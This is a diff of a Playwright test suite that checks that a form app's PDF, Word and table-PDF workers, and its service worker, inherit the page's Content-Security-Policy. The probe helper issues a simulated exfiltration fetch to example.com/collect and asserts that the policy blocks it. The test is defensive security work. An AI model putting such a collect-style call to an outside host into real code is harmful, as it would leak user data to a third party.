@@ -1,18 +1,20 @@
-// Workers under the page's privacy policy: a request to another origin made from inside the PDF worker or the
-// service worker is refused, though the other origin would answer (it is answered locally here).
+// Workers under the page's privacy policy: a request to another origin made from inside a page's worker (PDF,
+// Word, table PDF) or the service worker is refused, though the other origin would answer (it is answered locally here).
 import { expect, test } from '@playwright/test';
+import type { Worker } from '@playwright/test';
+import { fixtureDrafts } from '../fixtures/drafts';
+import { seedDraft } from './support/seed';
+
+const gd = fixtureDrafts['gd-2023'];
 
 test.beforeEach(async ({ context }) => {
   await context.route('https://example.com/**', (r) => r.fulfill({ status: 200, body: 'leaked' }));
 });
 
-test('the PDF worker inherits the page’s Content-Security-Policy: a fetch to another origin is blocked', async ({ page }) => {
-  await page.goto('./');
-  const started = page.waitForEvent('worker');
-  await page.getByRole('button', { name: /下载空白表格 PDF/ }).first().click();
-  const worker = await started;
+/** From inside a page's worker: a fetch to another origin, and the policy directive that refused it. */
+async function probe(worker: Worker) {
   expect(worker.url()).toMatch(/^blob:/);
-  const outcome = await worker.evaluate(async () => {
+  return worker.evaluate(async () => {
     const violation = new Promise<string>((ok) => self.addEventListener('securitypolicyviolation', (e) => ok((e as SecurityPolicyViolationEvent).effectiveDirective)));
     const result = await fetch('https://example.com/collect?name=集群').then(
       () => 'sent',
@@ -20,9 +22,34 @@ test('the PDF worker inherits the page’s Content-Security-Policy: a fetch to a
     );
     return { result, directive: await violation };
   });
-  expect(outcome).toEqual({ result: 'blocked', directive: 'connect-src' });
+}
+
+test('the PDF worker inherits the page’s Content-Security-Policy: a fetch to another origin is blocked', async ({ page }) => {
+  await page.goto('./');
+  const started = page.waitForEvent('worker');
+  await page.getByRole('button', { name: /下载空白表格 PDF/ }).first().click();
+  expect(await probe(await started)).toEqual({ result: 'blocked', directive: 'connect-src' });
   // Hint: the worker still does its own work: the blank form is written.
   await expect(page.getByRole('status').filter({ hasText: '已生成' }).first()).toBeVisible();
+});
+
+test('the Word worker and the table-PDF worker run under the page’s policy too', async ({ page }) => {
+  test.setTimeout(120_000);
+  await seedDraft(page, gd);
+  await page.goto(`./fill/#/${gd.id}/submit`);
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText('报送材料', { timeout: 30_000 });
+  const word = page.waitForEvent('worker');
+  const download = page.waitForEvent('download');
+  await page.getByRole('button', { name: /下载申报表 Word\/WPS 文件/ }).first().click();
+  expect(await probe(await word)).toEqual({ result: 'blocked', directive: 'connect-src' });
+  expect((await download).suggestedFilename()).toMatch(/\.docx$/);
+
+  await page.goto(`./fill/#/${gd.id}/enterprises`);
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText('一企一表（企业发展情况表）', { timeout: 30_000 });
+  const table = page.waitForEvent('worker');
+  await page.getByRole('button', { name: '下载企业发展情况表（表1）模板（PDF）' }).click();
+  expect(await probe(await table)).toEqual({ result: 'blocked', directive: 'connect-src' });
+  await expect(page.getByRole('status').filter({ hasText: '已生成企业发展情况表（表1）模板（PDF）' })).toBeVisible();
 });
 
 test('the service worker reaches its own origin only: fetch and Cache.add to another origin are refused', async ({ page, context }) => {
